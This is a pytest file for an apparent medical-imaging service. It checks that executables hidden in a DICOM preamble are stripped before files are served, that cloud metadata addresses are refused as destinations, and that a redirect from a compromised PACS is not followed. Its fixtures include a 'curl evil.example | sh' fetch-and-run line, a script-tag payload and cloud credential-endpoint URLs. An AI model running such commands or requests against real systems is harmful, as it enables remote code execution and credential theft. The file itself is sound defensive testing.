"""What leaves Vigie: no program hidden in an image, and no request to where an attacker would have it go."""

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from pydicom.uid import ExplicitVRLittleEndian

from services.backends import part10
from services.backends.oauth2 import Grant
from services.backends.senders.destinations import parse_destination
from services.backends.senders.stow_rs import StowSender
from services.triage.errors import DestinationRefused, DestinationUnavailable
from services.triage.study import Instance
from tests.support.ct import ct_series
from tests.support.http_server import Server, serving
from tests.support.shelf import RunningDesk, Shelf, part10_bytes

PROGRAMS = {
    "windows": b"MZ" + bytes(58) + b"\x80\x00\x00\x00",
    "linux": b"\x7fELF\x02\x01\x01",
    "script": b"#!/bin/sh\ncurl evil.example | sh\n",
    "pdf": b"%PDF-1.7\n",
    "zip": b"PK\x03\x04",
    "page": b"<html><script>alert(1)</script>",
    "tiff and pdf": b"II*\x00\x08\x00\x00\x00%PDF-1.7\n",
}
SLIDE = b"II*\x00\x84\x00\x00\x00"


@dataclass(frozen=True, kw_only=True)
class Given:
    """What was sent, by name, and a desk that gives it."""

    shelf: Shelf
    desk: RunningDesk
    sent: dict[str, bytes]
    kept: dict[str, Instance]

    def bytes_of(self, name: str, syntax: str) -> bytes:
        one = self.kept[name].header
        url = f"{self.desk.dicomweb}/studies/{one.study_instance_uid}/series/{one.series_instance_uid}"
        accept = {"Accept": f"application/dicom; transfer-syntax={syntax}"}
        return httpx.get(f"{url}/instances/{one.sop_instance_uid}", headers=accept).raise_for_status().content


def hidden_in(preamble: bytes) -> bytes:
    content = part10_bytes(ct_series(slices=1)[0])
    return preamble.ljust(128, b"\x00") + content[128:]


@pytest.fixture(scope="module")
def given(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Given]:
    shelf = Shelf(tmp_path_factory.mktemp("shelf"))
    sent = {name: hidden_in(preamble) for name, preamble in (PROGRAMS | {"slide": SLIDE}).items()}
    kept = dict(zip(sent, shelf.keep(*sent.values()), strict=True))
    with shelf.served() as desk:
        yield Given(shelf=shelf, desk=desk, sent=sent, kept=kept)


@pytest.mark.parametrize("name", PROGRAMS)
def test_a_program_in_the_preamble_is_kept_as_it_came_and_given_to_nobody(given: Given, name: str) -> None:
    """CVE-2019-11687."""
    sent, digest = given.sent[name], given.kept[name].digest
    assert given.shelf.files.path(digest).read_bytes() == sent
    assert given.bytes_of(name, "*") == bytes(128) + sent[128:]
    for syntax in ("*", ExplicitVRLittleEndian):
        content = given.bytes_of(name, syntax)
        assert content[:132] == bytes(128) + b"DICM"
        assert part10.digest(content) == digest


def test_a_slide_that_is_tiff_too_stays_one(given: Given) -> None:
    assert given.bytes_of("slide", "*") == given.sent["slide"]


@pytest.mark.parametrize("host", ["169.254.169.254", "[fe80::1]", "[fd00:ec2::254]", "metadata.google.internal"])
def test_no_destination_and_no_token_is_where_clouds_keep_credentials(host: str) -> None:
    with pytest.raises(ValueError, match="where clouds keep credentials"):
        parse_destination(f"http://{host}/latest/meta-data")
    with pytest.raises(DestinationUnavailable, match="where clouds keep credentials"):
        Grant.of({"token_url": f"http://{host}/token", "client_id": "a", "client_secret": "b"})


def test_a_redirect_is_not_followed(tmp_path: Path) -> None:
    """A PACS that was taken over sends results and credentials nowhere else."""
    content = part10_bytes(ct_series(slices=1)[0])
    path = tmp_path / "one.dcm"
    path.write_bytes(content)
    elsewhere, pacs = Server(), Server()
    with serving(elsewhere) as other, serving(pacs) as url:
        pacs.status, pacs.answer_headers = 307, {"Location": f"{other}/studies"}
        with pytest.raises(DestinationRefused):
            StowSender(url=url).send([("1.2.840.10008.5.1.4.1.1.2", "1.2.3", path)])
    assert pacs.requests
    assert not elsewhere.requests
